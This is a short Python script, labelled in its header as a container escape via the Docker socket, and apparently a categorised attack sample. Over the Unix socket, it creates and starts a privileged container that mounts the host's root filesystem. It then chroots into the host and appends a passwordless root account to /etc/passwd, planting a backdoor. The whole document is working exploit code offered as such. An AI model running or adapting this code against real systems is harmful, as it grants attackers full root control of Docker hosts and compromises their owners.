# class: container escape by docker socket; style: http client over unix socket
import http.client
import json
import socket


class UnixConnection(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/var/run/docker.sock")


c = UnixConnection("localhost")
spec = {
    "Image": "alpine",
    "Cmd": ["chroot", "/host", "sh", "-c", "echo 'r00t::0:0::/root:/bin/sh' >> /etc/passwd"],
    "HostConfig": {"Binds": ["/:/host"], "Privileged": True, "PidMode": "host"},
}
c.request("POST", "/containers/create", json.dumps(spec), {"Content-Type": "application/json"})
cid = json.loads(c.getresponse().read())["Id"]
c.request("POST", f"/containers/{cid}/start")
c.getresponse().read()
